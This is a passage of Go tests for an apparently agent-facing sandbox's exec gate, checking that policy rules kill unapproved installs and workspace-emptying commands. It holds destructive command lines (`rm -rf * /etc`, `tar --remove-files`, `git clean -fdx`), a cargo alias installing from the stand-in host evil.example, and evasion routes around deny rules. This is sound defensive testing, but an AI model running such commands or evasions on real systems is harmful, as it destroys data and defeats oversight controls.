		{"strict-production, another registry in the environment", `profile = "strict-production"` + npmIndex, "PATH=" + ws + "/bin:$PATH ./env.sh", false, false, "mode"},
		{"strict-production, the registry pin removed", `profile = "strict-production"` + npmIndex, "PATH=" + ws + "/bin:$PATH ./unset.sh", false, false, "mode"},
		{"a deny rule on the environment's registry", `profile = "interactive-dev"` + denyEvil, "PATH=" + ws + "/bin:$PATH ./env.sh", false, false, "no-evil"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			os.Remove(marker)
			p := policyFor(t, ws, tc.config)
			var approved []grants.Request
			if tc.approve {
				lr, err := LineRequests(p, "npm i lodash", ws, grants.SurfaceSandbox)
				if err != nil {
					t.Fatal(err)
				}
				for _, r := range lr {
					if r.Capability == grants.CapPackageInstall {
						approved = append(approved, r)
					}
				}
				if len(approved) == 0 {
					t.Fatalf("the line npm i lodash made no package.install: %+v", lr)
				}
			}
			o := runTool(t, &Tool{}, approvingEnv(p, approved), tc.script)
			_, err := os.Stat(marker)
			if ran := err == nil; ran != tc.wantRun {
				t.Errorf("npm ran = %v, want %v (stdout %q stderr %q refused %q)", ran, tc.wantRun, o.Stdout, o.Stderr, o.RefusedPrograms)
			}
			if tc.wantRun {
				if len(o.RefusedPrograms) != 0 || o.Stdout != "rc=0\n" {
					t.Errorf("refused %q, stdout %q", o.RefusedPrograms, o.Stdout)
				}
				return
			}
			if o.Stdout != "rc=137\n" || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "rule "+tc.rule) ||
				!strings.Contains(o.RefusedPrograms[0], "package.install") {
				t.Errorf("stdout %q, refused %q: want npm killed by %s", o.Stdout, o.RefusedPrograms, tc.rule)
			}
		})
	}
}

// TestExecInstalls: the packages a program installs are found by the name
// that installs (npm through its shebang's env and node), once, with the
// commands they index; a program that installs nothing has none.
func TestExecInstalls(t *testing.T) {
	tests := []struct {
		name string
		ev   sandbox.ExecEvent
		want []string
	}{
		{"npm through env's shebang", sandbox.ExecEvent{Exe: "/usr/bin/env", Argv: []string{"/usr/bin/env", "node", "/usr/bin/npm", "i", "lodash"},
			ExecPath: "/usr/bin/npm", Cwd: "/w"}, []string{"npm lodash"}},
		// node running npm's entry point is npm too (node "$(command -v
		// npm)" i x is no way around a rule): after env's exec above, the
		// same install is decided again at node's, with the same answer.
		{"node running npm's script", sandbox.ExecEvent{Exe: "/usr/bin/node", Argv: []string{"node", "/usr/bin/npm", "i", "lodash"},
			ExecPath: "/usr/bin/node", Cwd: "/w"}, []string{"npm lodash"}},
		{"pip through python -m", sandbox.ExecEvent{Exe: "/usr/bin/python3.11", Argv: []string{"python3", "-m", "pip", "install", "requests==2.31.0"},
			ExecPath: "/usr/bin/python3", Cwd: "/w"}, []string{"pip requests==2.31.0"}},
		{"sh -c with two installs", sandbox.ExecEvent{Exe: "/usr/bin/dash", Argv: []string{"sh", "-c", "npm i a && cargo add b"},
			ExecPath: "/bin/sh", Cwd: "/w"}, []string{"npm a", "cargo b"}},
		{"npm run", sandbox.ExecEvent{Exe: "/usr/bin/env", Argv: []string{"/usr/bin/env", "node", "/usr/bin/npm", "run", "build"},
			ExecPath: "/usr/bin/npm", Cwd: "/w"}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			an := execAnalyze(tc.ev, identity{}, "").installs
			var got []string
			for _, pk := range an.Packages {
				if pk.Command < 0 || pk.Command >= len(an.Commands) {
					t.Fatalf("package %+v indexes no command of %d", pk, len(an.Commands))
				}
				if s := pk.Manager + " " + pk.Name; !slices.Contains(got, s) {
					got = append(got, s)
				}
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("installs %q, want %q", got, tc.want)
			}
		})
	}
}

// TestExecGateOtherEmptying: in the real sandbox, programs other than rm
// that remove every entry of the workspace (tar --remove-files, git clean
// -fdx at its root) are critical at exec: a script's is killed with every
// file still there, while the line's own, approved, runs (the approval of
// `tar --remove-files -cf /tmp/x.tar *` names the folder it empties, so it
// holds for the expanded operands at exec). git clean -fdx in a subfolder
// is no emptying and runs (review rev20 M2).
func TestExecGateOtherEmptying(t *testing.T) {
	needProgram(t, "tar", "git")
	mk := func() string {
		ws, _ := filepath.EvalSymlinks(t.TempDir())
		for _, f := range []string{"a/x", "b/y", "precious", "sub/junk"} {
			if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, f)), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(ws, f), []byte("x"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.WriteFile(filepath.Join(ws, "empty.sh"), []byte("#!/bin/sh\n\"$@\"\necho rc=$?\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		return ws
	}
	kept := func(ws string) bool {
		_, err := os.Stat(filepath.Join(ws, "precious"))
		return err == nil
	}
	for _, script := range []string{"./empty.sh tar --remove-files -cf /tmp/x.tar a b empty.sh precious sub", "git init -q && ./empty.sh git clean -fdx"} {
		ws := mk()
		p := policyFor(t, ws, `profile = "interactive-dev"`)
		o := runTool(t, &Tool{}, (&gateCall{}).env(p), script)
		if !kept(ws) || !strings.Contains(o.Stdout, "rc=137") || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "exec_critical_risk") {
			t.Errorf("%s: precious kept %v, stdout %q, refused %q: want the program killed", script, kept(ws), o.Stdout, o.RefusedPrograms)
		}
	}
	ws := mk()
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	line := "tar --remove-files -cf /tmp/x.tar *"
	lr, err := LineRequests(p, line, ws, grants.SurfaceSandbox)
	if err != nil {
		t.Fatal(err)
	}
	if o := runTool(t, &Tool{}, approvingEnv(p, lr), line+"; echo rc=$?"); kept(ws) || o.Stdout != "rc=0\n" || len(o.RefusedPrograms) != 0 {
		t.Errorf("the approved line: precious kept %v, %+v", kept(ws), o)
	}
	ws = mk()
	p = policyFor(t, ws, `profile = "interactive-dev"`)
	if o := runTool(t, &Tool{}, (&gateCall{}).env(p), "git init -q && cd sub && ../empty.sh git clean -fdx"); !kept(ws) || !strings.Contains(o.Stdout, "rc=0") || len(o.RefusedPrograms) != 0 {
		t.Errorf("git clean -fdx in a subfolder: %+v", o)
	}
}

// TestEmptyingOwnWords: the line's own-words twin of a named emptying
// puts the operands back where the folder's name stands, other words kept
// in their places (`rm -rf * /etc`: the glob, then /etc).
func TestEmptyingOwnWords(t *testing.T) {
	for _, tc := range []struct {
		c    cmdline.Command
		want []string
	}{
		{cmdline.Command{Words: []string{"rm", "-rf", emptyingPrefix + "/w>"}, Globs: []string{"*"}}, []string{"rm", "-rf", "*"}},
		{cmdline.Command{Words: []string{"rm", "-rf", emptyingPrefix + "/w>", "/etc"}, Removes: []string{"/etc"}, Globs: []string{"*"}}, []string{"rm", "-rf", "*", "/etc"}},
		{cmdline.Command{Words: []string{"tar", "--remove-files", "-cf", "/tmp/a.tar", emptyingPrefix + "/w>"}, Removes: []string{"a", "b"}}, []string{"tar", "--remove-files", "-cf", "/tmp/a.tar", "a", "b"}},
	} {
		if got := emptyingOwnWords(tc.c); !slices.Equal(got, tc.want) {
			t.Errorf("%q: %q, want %q", tc.c.Words, got, tc.want)
		}
	}
}

// TestEmptyingTwinAtCritical: with the line's `rm -rf *` approved, a
// script's `rm -rf a b precious` (the same emptying) runs, unless a rule
// that needs critical risk names its own words: that rule sees the words
// at the emptying's critical risk (review rev20 H1's twin at exec). A
// critical rule on words it does not have changes nothing.
func TestEmptyingTwinAtCritical(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	for _, d := range []string{"a", "b", "precious"} {
		if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	ev := sandbox.ExecEvent{PID: 7, Exe: "/usr/bin/rm", Argv: []string{"rm", "-rf", "a", "b", "precious"}, ExecPath: "/usr/bin/rm", Cwd: ws}
	for _, tc := range []struct {
		pattern, effect string
		runs            bool
	}{
		{"re:.*precious.*", "deny", false},
		{"re:.*precious.*", "ask", false},
		{"re:.*nothere.*", "deny", true},
		{"", "", true}, // no rule
	} {
		toml := "profile = \"interactive-dev\"\n"
		if tc.effect != "" {
			toml += "[[rules." + tc.effect + "]]\nrule_id=\"keep-precious\"\ncapability=\"process.exec\"\ntarget={command='" + tc.pattern + "'}\nconditions={risk_level=[\"critical\"]}\n"
		}
		p := policyFor(t, ws, toml)
		lr, err := LineRequests(p, "rm -rf *", ws, grants.SurfaceSandbox)
		if err != nil {
			t.Fatal(err)
		}
		gate := execGate(context.Background(), approvingEnv(p, lr), &lineLog{}, nil, &programTable{byFile: map[fileID]*hostProgram{}}, nil, callFacts{})
		if got := gate(ev); got != tc.runs {
			t.Errorf("%s %q at critical: runs %v, want %v", tc.effect, tc.pattern, got, tc.runs)
		}
	}
}

// TestExecInstallsHiddenFiles: at exec a project .npmrc the run hides from
// npm adds no index (the e2e npm ci through the proxy was killed for its
// scope's registry); one the run does not hide (written since it began)
// is read, so its registry is decided too.
func TestExecInstallsHiddenFiles(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	rc := filepath.Join(ws, ".npmrc")
	if err := os.WriteFile(rc, []byte("@s:registry=http://127.0.0.2/\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "package.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	an, err := cmdline.AnalyzeProgram([]string{"npm", "i", "@s/x"})
	if err != nil {
		t.Fatal(err)
	}
	_, lineHidden, err := installRequests(p, an, ws, grants.SurfaceSandbox, installsAt{})
	if err != nil || !slices.Contains(lineHidden, rc) {
		t.Fatalf("the line takes %s as hidden: %q %v", rc, lineHidden, err)
	}
	for _, tc := range []struct {
		hidden []string
		named  bool
	}{{[]string{rc}, false}, {nil, true}} {
		reqs, _, err := installRequests(p, an, ws, grants.SurfaceSandbox, installsAt{exec: true, hidden: tc.hidden})
		if err != nil {
			t.Fatal(err)
		}
		named := slices.ContainsFunc(reqs, func(r grants.Request) bool { return r.Target.Host == "127.0.0.2" })
		if named != tc.named {
			t.Errorf("run hides %q: the scope's registry named %v, want %v (%+v)", tc.hidden, named, tc.named, reqs)
		}
	}
}

// TestGitCleanFolderAtExec: git's clean is judged in the folder -C names,
// also where the gate decides git by its subcommand past the global
// options (that form drops -C: its removals are the program's own
// request's): `git -C sub clean -fdx` from the root is no emptying, while
// the root's own clean and -C . are (an alias is git running itself again
// with it expanded: that exec is judged as it is).
func TestGitCleanFolderAtExec(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	if err := os.Mkdir(filepath.Join(ws, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		argv     []string
		critical bool
	}{
		{[]string{"git", "-C", "sub", "clean", "-fdx"}, false},
		{[]string{"git", "clean", "-fdx"}, true},
		{[]string{"git", "-C", ".", "clean", "-fdx"}, true},
	} {
		worst := grants.RiskLow
		for _, r := range execRequests(sandbox.ExecEvent{Exe: "/usr/bin/git", Argv: tc.argv, ExecPath: "/usr/bin/git", Cwd: ws}, identity{}, ws) {
			worst = max(worst, r.Risk)
		}
		if got := worst == grants.RiskCritical; got != tc.critical {
			t.Errorf("%q from the root: critical %v, want %v", tc.argv, got, tc.critical)
		}
	}
}

// TestEmptyingThroughLinkedFolder: a script's `rm -rf link/*`, with link
// a symlink to the workspace, reaches the gate expanded (link/a link/b
// link/c): it removes every entry of the workspace and is critical; and a
// removal's answer is not kept for the call, since a symlink on its way
// may change by the next exec.
func TestEmptyingThroughLinkedFolder(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	for _, d := range []string{"a", "b", "c"} {
		if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(ws, filepath.Join(ws, "a", "link")); err != nil {
		t.Fatal(err)
	}
	argv := []string{"rm", "-rf", "a/link/a", "a/link/b", "a/link/c"}
	an := execAnalyze(sandbox.ExecEvent{Exe: "/usr/bin/rm", Argv: argv, ExecPath: "/usr/bin/rm", Cwd: ws}, identity{}, ws)
	worst := grants.RiskLow
	for _, r := range an.reqs {
		worst = max(worst, r.Risk)
	}
	if worst != grants.RiskCritical || !an.listed {
		t.Errorf("%q: worst risk %v, not kept %v; want critical, not kept", argv, worst, an.listed)
	}
}

// TestExecGateProgramNames: a rule on a program holds for its versioned
// and triplet-named files (review rev20c M1): Debian's
// /usr/bin/perl5.36-x86_64-linux-gnu is perl, a script the command names
// perl5.99-x86_64-linux-gnu is decided as perl too, python3.11 is python3;
// and for the program when what it runs is known only when run (a script
// piped into perl: its request's name is <dynamic>, and perl's too).
func TestExecGateProgramNames(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, `profile = "interactive-dev"
[[rules.deny]]
rule_id    = "no-perl"
capability = "process.exec"
target     = { resource = "perl" }
[[rules.deny]]
rule_id    = "no-python3"
capability = "process.exec"
target     = { resource = "python3" }
`)
	marker := filepath.Join(ws, "ran")
	cases := []struct{ name, cmd, rule string }{
		{"a written program by its family", "printf '#!/bin/sh\\ntouch " + marker + "\\n' >perl5.99-x86_64-linux-gnu && chmod +x perl5.99-x86_64-linux-gnu && sh -c ./perl5.99-x86_64-linux-gnu; echo rc=$?", "no-perl"},
		// Its script known only when run: still perl.
		{"a script piped in", `echo 'open my $f, ">", "` + marker + `"' | perl; echo rc=$?`, "no-perl"},
		{"a script from a variable", `s='open my $f, ">", "` + marker + `"'; sh -c 'perl -e "$0"' "$s"; echo rc=$?`, "no-perl"},
		{"python3 reading stdin", `echo 'open("` + marker + `", "w")' | python3 -; echo rc=$?`, "no-python3"},
	}
	for _, glob := range []string{"/usr/bin/perl5.*-linux-gnu", "/usr/bin/perl5.*.*", "/usr/bin/python3.*[0-9]"} {
		m, _ := filepath.Glob(glob)
		if len(m) == 0 {
			t.Logf("no %s here", glob)
			continue
		}
		rule := "no-perl"
		if strings.Contains(glob, "python") {
			rule = "no-python3"
		}
		cases = append(cases, struct{ name, cmd, rule string }{m[0], "sh -c '" + m[0] + " -e 1 -c 1 2>/dev/null; touch " + marker + ".$?'; ls " + marker + ".*", rule})
	}
	tool := &Tool{}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			os.Remove(marker)
			g := &gateCall{}
			out := runTool(t, tool, g.env(p), tc.cmd)
			if _, err := os.Stat(marker); err == nil {
				t.Errorf("the program ran: %+v", out)
			}
			if !strings.Contains(out.Stdout, "137") {
				t.Errorf("stdout %q, want it killed (137); stderr %q", out.Stdout, out.Stderr)
			}
			if len(out.RefusedPrograms) != 1 || !strings.Contains(out.RefusedPrograms[0], "rule "+tc.rule) {
				t.Errorf("refused %q, want one by %s", out.RefusedPrograms, tc.rule)
			}
		})
	}
}

// gitFormArgv: a git form's request has the program's own words as its
// argv (named.orig: the approval of the form is not this program's).
func gitFormArgv(r grants.Request, ev sandbox.ExecEvent) bool {
	return r.Target.Resource == "git" && len(r.Argv) > 0 && len(ev.Argv) > 0 && slices.Equal(r.Argv[1:], ev.Argv[1:])
}

// TestExecGateCargoAlias: cargo expands an [alias] in its own process, so
// the gate sees only `cargo i`: at its exec the alias the project's
// .cargo/config.toml defines then (a command of the line wrote it) is
// read, and its expansion decided as the install it is (issue 16): a deny
// rule on the host it installs from kills it; an alias to a build runs.
// The cargo here is a stand-in on PATH: nothing reaches a network.
func TestExecGateCargoAlias(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	marker := filepath.Join(ws, "ran")
	files := map[string]string{
		"bin/cargo": "#!/bin/sh\necho \"$@\" > " + marker + "\n",
		"alias.sh":  "#!/bin/sh\nmkdir -p .cargo\nprintf '[alias]\\ni = \"%s\"\\n' \"$1\" > .cargo/config.toml\ncargo i\necho rc=$?\n",
	}
	for name, body := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(ws, name), []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	const denyEvil = "\n[[rules.deny]]\nrule_id = \"no-evil\"\ncapability = \"package.install\"\ntarget = { host = \"evil.example\" }\n"
	p := policyFor(t, ws, `profile = "interactive-dev"`+denyEvil)
	for _, tc := range []struct {
		alias   string
		wantRun bool
	}{
		{"install --git https://evil.example/x x", false},
		{"build --release", true},
	} {
		os.Remove(marker)
		o := runTool(t, &Tool{}, approvingEnv(p, nil), "PATH="+ws+"/bin:$PATH ./alias.sh '"+tc.alias+"'")
		_, err := os.Stat(marker)
		if ran := err == nil; ran != tc.wantRun {
			t.Errorf("%q: cargo ran = %v, want %v (stdout %q stderr %q refused %q)", tc.alias, ran, tc.wantRun, o.Stdout, o.Stderr, o.RefusedPrograms)
		}
		if !tc.wantRun && (o.Stdout != "rc=137\n" || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "rule no-evil")) {
			t.Errorf("%q: stdout %q, refused %q: want cargo killed by no-evil", tc.alias, o.Stdout, o.RefusedPrograms)
		}
	}
}

// TestExecGateCorepackShim: after `corepack enable`, `pnpm` is a link to
// corepack's dist/pnpm.js, which fetches the pnpm the project's
// packageManager names before it runs: its exec is decided as that
// install (issue 16), so a deny rule naming pnpm@9.1.0 kills it, while a
// project on another version runs. The shim here is a shell stand-in in a
// corepack layout (run through env, as corepack's own shebang is):
// nothing reaches a network.
func TestExecGateCorepackShim(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	marker := filepath.Join(ws, "ran")
	dist := filepath.Join(ws, "lib", "node_modules", "corepack", "dist")
	writeTree(t, ws, map[string]string{
		"lib/node_modules/corepack/dist/pnpm.js": "#!/usr/bin/env sh\necho \"$@\" > " + marker + "\n",
		"new/package.json":                       `{"packageManager": "pnpm@9.1.0"}`,
		"old/package.json":                       `{"packageManager": "pnpm@8.15.0"}`,
		"bin/pnpm":                               "->" + filepath.Join(dist, "pnpm.js"),
	})
	const deny = "\n[[rules.deny]]\nrule_id = \"no-pnpm9\"\ncapability = \"package.install\"\ntarget = { resource = \"pnpm@9.1.0\" }\n"
	p := policyFor(t, ws, `profile = "interactive-dev"`+deny)
	for _, tc := range []struct {
		dir     string
		wantRun bool
	}{
		{"new", false},
		{"old", true},
	} {
		os.Remove(marker)
		o := runTool(t, &Tool{}, approvingEnv(p, nil), "cd "+tc.dir+" && PATH="+ws+"/bin:$PATH pnpm --version; echo rc=$?")
		_, err := os.Stat(marker)
		if ran := err == nil; ran != tc.wantRun {
			t.Errorf("%s: pnpm ran = %v, want %v (stdout %q stderr %q refused %q)", tc.dir, ran, tc.wantRun, o.Stdout, o.Stderr, o.RefusedPrograms)
		}
		if !tc.wantRun && (o.Stdout != "rc=137\n" || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "rule no-pnpm9")) {
			t.Errorf("%s: stdout %q, refused %q: want pnpm killed by no-pnpm9", tc.dir, o.Stdout, o.RefusedPrograms)
		}
	}
}

// TestExecGateRealCorepackShim: the same with this machine's corepack
// (node ships it): `corepack enable --install-directory bin pnpm` makes
// the link, and its exec (env, then node, running dist/pnpm.js) is
// killed by the deny rule before corepack reaches the network.
func TestExecGateRealCorepackShim(t *testing.T) {
	if _, err := exec.LookPath("corepack"); err != nil {
		t.Skip("corepack not found")
	}
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	if err := os.WriteFile(filepath.Join(ws, "package.json"), []byte(`{"packageManager": "pnpm@9.1.0"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(ws, "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("corepack", "enable", "--install-directory", filepath.Join(ws, "bin"), "pnpm").CombinedOutput(); err != nil {
		t.Fatalf("corepack enable: %v: %s", err, out)
	}
	const deny = "\n[[rules.deny]]\nrule_id = \"no-pnpm9\"\ncapability = \"package.install\"\ntarget = { resource = \"pnpm@9.1.0\" }\n"
	o := runTool(t, &Tool{}, approvingEnv(policyFor(t, ws, `profile = "interactive-dev"`+deny), nil), "bin/pnpm --version; echo rc=$?")
	if o.Stdout != "rc=137\n" || len(o.RefusedPrograms) != 1 || !strings.Contains(o.RefusedPrograms[0], "rule no-pnpm9") {
		t.Errorf("stdout %q stderr %q, refused %q: want the shim killed by no-pnpm9", o.Stdout, o.Stderr, o.RefusedPrograms)
	}
}
